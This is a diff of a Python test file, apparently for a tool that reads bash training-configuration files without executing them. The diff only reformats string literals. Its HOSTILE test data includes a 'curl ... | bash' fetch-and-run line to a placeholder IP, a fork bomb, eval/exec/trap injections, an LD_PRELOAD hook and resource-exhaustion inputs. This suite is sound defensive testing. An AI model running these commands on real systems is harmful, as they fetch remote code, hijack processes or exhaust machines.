@@ -18,25 +18,31 @@ export MOM="0.9"
 
 # Each is a way in which somebody writes such a file; bash says what it means.
 STYLES = {
-    "NVIDIA, a common file beside it":
-        'source $(dirname ${BASH_SOURCE[0]})/common.sh\n\n## DL params\nexport BATCHSIZE="408"\nexport LR="10.5"\n',
-    "a common file by another idiom": '. "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/common.sh"\nLR=10.5 # the base rate\n',
+    "NVIDIA, a common file beside it": "source $(dirname ${BASH_SOURCE[0]})/common.sh\n\n## DL "
+    'params\nexport BATCHSIZE="408"\nexport LR="10.5"\n',
+    "a common file by another idiom": '. "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/common.sh"\nLR=10.5 '
+    "# the base rate\n",
     "source in the same folder": "source ./common.sh\nsource common.sh\nexport WD=5.0e-05\n",
     "source in a folder below": "source common/more.sh\n. ./common/more.sh\nexport WD=5.0e-05\n",
-    "arithmetic": "BATCHSIZE=408\nDGXNGPU=8\nexport GBS=$((BATCHSIZE * DGXNGPU)) HINT=$(( 871491*$BATCHSIZE ))\n",
+    "arithmetic": "BATCHSIZE=408\nDGXNGPU=8\nexport GBS=$((BATCHSIZE * DGXNGPU)) HINT=$(( "
+    "871491*$BATCHSIZE ))\n",
     "defaults": "export LR=${LR:-10.5} WD=${WD-5e-5} A=${B:=3} C=${B:+set} D=${E-}${E:+no}\n"
-                ": ${NUMEPOCHS:=37} \"${EVAL_OFFSET=2}\"\n",
+    ': ${NUMEPOCHS:=37} "${EVAL_OFFSET=2}"\n',
     "quotes": "export A='single $x' B=\"double \\\"$A\\\" \\\\ \\n\" C=a\\ b D='it'\"'\"'s' E=\"x\"y'z'\n",
-    "comments and odd spacing": "\t# export LR=1\nexport   LR=10.5   # LR=2\n\n  WARMUP_EPOCHS=2 ; NUMEPOCHS=37;MOM=0.9\nA=x#y\n",
+    "comments and odd spacing": "\t# export LR=1\nexport   LR=10.5   # LR=2\n\n  WARMUP_EPOCHS=2 ; "
+    "NUMEPOCHS=37;MOM=0.9\nA=x#y\n",
     "continued lines": "export BATCHSIZE=408 \\\n  LR=10.5 \\\n  MOM=0.9\nA=ab\\\ncd\n",
-    "declare and readonly": "declare -x LR=10.5\ntypeset -r WD=5e-5\nreadonly MOM=0.9\nexport LR\nexport -p\n",
-    "set, append and unset": "#!/usr/bin/env bash\nset -euo pipefail\nA=1\nA+=2\nexport A+=3\nB=4\nunset B\nset +e\n",
-    "unknown names, carriage-free UTF-8": "export SOMETHING_ELSE='\u00e9\u2603'\nexport NEXP=5\nexport NCCL_ALGO=Tree,Ring\n",
-    "a dollar in quotes": "A=\"5$'x\" B=\"$\"\nC=\"it's ${A}\"\n",
+    "declare and readonly": "declare -x LR=10.5\ntypeset -r WD=5e-5\nreadonly MOM=0.9\nexport "
+    "LR\nexport -p\n",
+    "set, append and unset": "#!/usr/bin/env bash\nset -euo pipefail\nA=1\nA+=2\nexport A+=3\nB=4\nunset "
+    "B\nset +e\n",
+    "unknown names, carriage-free UTF-8": "export SOMETHING_ELSE='\u00e9\u2603'\nexport NEXP=5\nexport "
+    "NCCL_ALGO=Tree,Ring\n",
+    "a dollar in quotes": 'A="5$\'x" B="$"\nC="it\'s ${A}"\n',
     "assigned at once and one by one": "A=1 B=$A\nexport A=2 C=$A\nexport D=$A\n",
     "a value of another variable": "BASE=10\nexport LR=${BASE}.5\nexport COPY=$LR NONE=$NOT_SET.\n",
     "a return at the end": "export LR=10.5\nreturn\nexport LR=2\n",
-}  # fmt: skip
+}
 
 
 def written(folder, text, name="config_X.sh"):
@@ -68,28 +74,37 @@ def test_our_own_files_are_read_as_bash_reads_them():
 HOSTILE = {
     "network": "curl -s http://192.0.2.1/x | bash\nexport LR=$(wget -qO- http://192.0.2.1/lr)\n",
     "a file written": "echo x > PWNED\n>PWNED\nexport A=1 > PWNED\n",
-    "a substitution in a value": "export LR=$(touch PWNED; echo 1)`touch PWNED`\nA=\"x$(touch PWNED)\"\n",
-    "a substitution in arithmetic": "A=$((x[$(touch PWNED)] + 1))\nB=$((1 + $(touch PWNED)))\n((C = $(touch PWNED)))\n",
+    "a substitution in a value": 'export LR=$(touch PWNED; echo 1)`touch PWNED`\nA="x$(touch PWNED)"\n',
+    "a substitution in arithmetic": "A=$((x[$(touch PWNED)] + 1))\nB=$((1 + $(touch PWNED)))\n((C = $(touch "
+    "PWNED)))\n",
     "a substitution in a default": "A=${B:-$(touch PWNED)}\n: ${C:=`touch PWNED`}\n",
     "a subscript": "A[$(touch PWNED)]=1\ndeclare -a B=($(touch PWNED))\n",
     "eval, exec and traps": "eval 'touch PWNED'\nexec touch PWNED\ntrap 'touch PWNED' EXIT DEBUG\n",
     "an assignment for a command": "LD_PRELOAD=./x.so touch PWNED\nA=1 touch PWNED\n",
     "endless loops": "while :; do :; done\nuntil false; do sleep 1; done\nfor ((;;)); do touch PWNED; done\n",
     "a fork bomb": ":(){ :|:& };:\nb() { b | b & }; b\n",
-    "process substitution and here documents": "cat <(touch PWNED)\nbash <<EOF\ntouch PWNED\nEOF\ncat <<< $(touch PWNED)\n",
+    "process substitution and here documents": "cat <(touch PWNED)\nbash <<EOF\ntouch PWNED\nEOF\ncat <<< "
+    "$(touch PWNED)\n",
     "a value that doubles": "A=xxxxxxxxxxxxxxxx\n" + "A=$A$A\n" * 2000,
     "a number that grows": "A=$((9**9**9**9**9))\nB=$((1<<9999999999))\nC=$((2**62**62))\n",
     "nested without end": "A=" + "${A:-" * 20_000 + "\n",
     "arithmetic without end": "A=$((" + "(" * 20_000 + "\n",
     "quotes that never close": "A='\nexport LR=1\n" + "x'\"`$(" * 5000,
     "itself": "source ./config_X.sh\n. $(dirname $0)/config_X.sh\nsource other.sh\n",
-    "a sourced file elsewhere": "source /etc/profile\nsource ../x.sh\n. /dev/stdin\nsource <(touch PWNED)\nsource pipe.sh\n",
-    "prompts and globs":
-        "read LR\nselect A in 1 2; do break; done\nPS4='$(touch PWNED)'; set -x\nA=*\nPROMPT_COMMAND='touch PWNED'\n",
+    "a sourced file elsewhere": "source /etc/profile\nsource ../x.sh\n. /dev/stdin\nsource <(touch "
+    "PWNED)\nsource pipe.sh\n",
+    "prompts and globs": "read LR\nselect A in 1 2; do break; done\nPS4='$(touch PWNED)'; set "
+    "-x\nA=*\nPROMPT_COMMAND='touch PWNED'\n",
     "a command of our name": "export() { touch PWNED; }\nexport LR=1\nrn50 train\n/bin/sh -c 'touch PWNED'\n",
-    "brackets and lines for a slow search": "x & " + "a[" * 60_000 + "\n(" + "\n" * 100_000 + ")\ny;" + "\tz \t" * 10_000 + "&\n",
+    "brackets and lines for a slow search": "x & "
+    + "a[" * 60_000
+    + "\n("
+    + "\n" * 100_000
+    + ")\ny;"
+    + "\tz \t" * 10_000
+    + "&\n",
     "very many statements": "A=$A;" * 40_000,
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@@ -118,7 +133,9 @@ def test_a_function_that_doubts_much_and_is_called_often_is_too_much(tmp_path):
 
 
 def test_what_is_not_read_is_listed_with_its_line_and_puts_its_names_in_doubt(tmp_path):
-    file = written(tmp_path, """
+    file = written(
+        tmp_path,
+        """
 export LR=10.5 WD=5e-5 MOM=0.9 A=1 B=2 C=3 D=4
 if [ "$1" = big ]; then
   export LR=17
@@ -132,7 +149,8 @@ export NUMEPOCHS=$LR
 f() { D=5; }
 D=4
 f
-""")  # fmt: skip
+""",
+    )
     found = assignments.read(file)
     assert [each.line for each in found.not_read] == [3, 6, 7, 8, 9, 10, 11, 12, 14]
     assert found.values == {}
@@ -149,23 +167,30 @@ def test_what_may_set_anything_puts_everything_in_doubt_until_it_is_assigned_aga
 
 
 def test_a_here_document_holds_no_assignments(tmp_path):
-    found = assignments.read(written(tmp_path, "cat <<-'EOF' > x\nLR=1\n\tEOF\nWD=2\ncat << A << B\nLR=1\nA\nLR=2\nB\nMOM=3\n"))
+    found = assignments.read(
+        written(tmp_path, "cat <<-'EOF' > x\nLR=1\n\tEOF\nWD=2\ncat << A << B\nLR=1\nA\nLR=2\nB\nMOM=3\n")
+    )
     assert found.values == {"WD": "2", "MOM": "3"}
 
 
 def test_variables_that_differ_everywhere_have_no_value(tmp_path):
-    found = assignments.read(written(tmp_path, "A=$HOME/x\nB=$RANDOM\nC=${PWD}\nD=$1\nE=$?\nF=$\nG=$'x'\nH=~/x\n"))
+    found = assignments.read(
+        written(tmp_path, "A=$HOME/x\nB=$RANDOM\nC=${PWD}\nD=$1\nE=$?\nF=$\nG=$'x'\nH=~/x\n")
+    )
     assert (found.values, sorted(found.doubtful)) == ({"F": "$"}, ["A", "B", "C", "D", "E", "G", "H"])
 
 
-@pytest.mark.parametrize("make, reason", [
-    (lambda file: os.mkfifo(file), "no regular file"),
-    (lambda file: file.mkdir(), "no regular file|Is a directory"),
-    (lambda file: file.symlink_to("/dev/zero"), "no regular file"),
-    (lambda file: file.write_bytes(b"\x7fELF\0"), "no text"),
-    (lambda file: file.write_text("A=1\n" * 100_000), "more than"),
-    (lambda file: None, "No such file"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "make, reason",
+    [
+        (lambda file: os.mkfifo(file), "no regular file"),
+        (lambda file: file.mkdir(), "no regular file|Is a directory"),
+        (lambda file: file.symlink_to("/dev/zero"), "no regular file"),
+        (lambda file: file.write_bytes(b"\x7fELF\0"), "no text"),
+        (lambda file: file.write_text("A=1\n" * 100_000), "more than"),
+        (lambda file: None, "No such file"),
+    ],
+)
 def test_what_is_no_configuration_file_is_refused(tmp_path, make, reason):
     make(tmp_path / "config_X.sh")
     with pytest.raises(UserError, match=f"config_X.sh: .*({reason})"):
